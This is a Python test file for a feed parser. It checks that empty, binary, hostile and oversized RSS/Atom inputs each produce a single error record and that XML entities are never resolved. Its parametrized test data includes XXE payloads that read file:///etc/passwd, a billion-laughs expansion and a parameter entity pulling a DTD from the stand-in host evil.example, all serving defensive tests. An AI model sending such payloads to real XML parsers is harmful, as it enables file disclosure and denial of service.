"""Unreadable, hostile and oversized feeds: one record with the reason, never an entity resolved or a crash."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.transforms.parse.feed_samples import parse
from transforms.schema import RAW_ARTICLES


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "not a well-formed feed"),  # an empty file
        (b"\x00\x01\x02\xff", "not a well-formed feed"),  # binary bytes
        (b"<html><body><p>Hello</p></body></html>", "no RSS or Atom items"),  # a web page, not its feed
        (b"just some words", "not a well-formed feed"),  # not XML at all
        (b'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title></channel></rss>', "empty feed"),
        (b"\xff\xfe<\x00r\x00", "not a well-formed feed"),  # undecodable: UTF-16 cut in half
    ],
)
def test_unreadable_feed_is_one_record_with_the_reason(data, reason):
    (record,) = parse(data)
    assert reason in record["read_error"]
    assert record["source_uri"] == "/in/feed.xml"
    assert record["payload"] is not None


@pytest.mark.parametrize(
    "data",
    [
        # XXE: an external entity reading a local file
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<rss><channel><item><title>&xxe;</title></item></channel></rss>",
        # Billion laughs: entities expanding exponentially
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]>'
        b"<rss><channel><item><title>&lol3;</title></item></channel></rss>",
        # A parameter entity fetching a remote DTD
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
        # An entity declaration after an error, where expat stops before reaching it
        b'<rss><channel><item><title>a & b</title></item></channel></rss><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    ],
)
def test_entities_are_never_resolved(data):
    (record,) = parse(data)
    assert record["read_error"].startswith("unsafe XML")
    assert "root:" not in record["payload"]


def test_external_dtd_is_not_loaded():
    # RSS 0.91's DOCTYPE names a DTD; here a local file, which must not be read
    data = (
        b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "file:///etc/passwd">'
        b"<rss><channel><item><title>T</title><description>Body</description></item></channel></rss>"
    )
    (record,) = parse(data)
    assert (record["title"], record["body"]) == ("T", "Body")
    assert "root:" not in record["payload"]


def test_links_to_local_files_are_not_keys_or_urls():
    data = b"<rss><channel><item><title>T</title><link>file:///etc/passwd</link></item></channel></rss>"
    (record,) = parse(data)
    assert (record["source_uri"], record["url"]) == ("/in/feed.xml#1", None)


def test_deeply_nested_xml_does_not_crash():
    data = b"<rss><channel><item><title>T</title><description>" + b"<a>" * 10_000 + b"x" + b"</a>" * 10_000
    records = parse(data + b"</description></item></channel></rss>")
    assert len(records) == 1


def test_a_50_mb_item_is_read():
    body = b"word " * 10_000_000
    (record,) = parse(
        b"<rss><channel><item><title>T</title><description>" + body + b"</description></item></channel></rss>"
    )
    assert len(record["body"]) == len(body.strip())


def test_50_mb_of_non_xml_is_refused_quickly():
    (record,) = parse(b"a" * 50_000_000)
    assert "not a well-formed feed" in record["read_error"]


@settings(deadline=None, max_examples=60)
@given(st.binary(max_size=300) | st.text(alphabet="<>/&;!rssfeditm?xl ", max_size=200).map(str.encode))
def test_any_bytes_give_items_or_exactly_one_error(data):
    records = parse(data)
    assert len(records) >= 1
    errors = [r for r in records if r["read_error"] is not None]
    # A feed that cannot be read is one record; an item that is no article is quarantined on its own
    not_articles = ("not an article", "not a post", "not a published post")
    assert len(records) == 1 or all(r["read_error"].startswith(not_articles) for r in errors)
    for record in records:
        assert set(record) == set(RAW_ARTICLES)
        assert record["source_kind"] in ("rss", "atom")
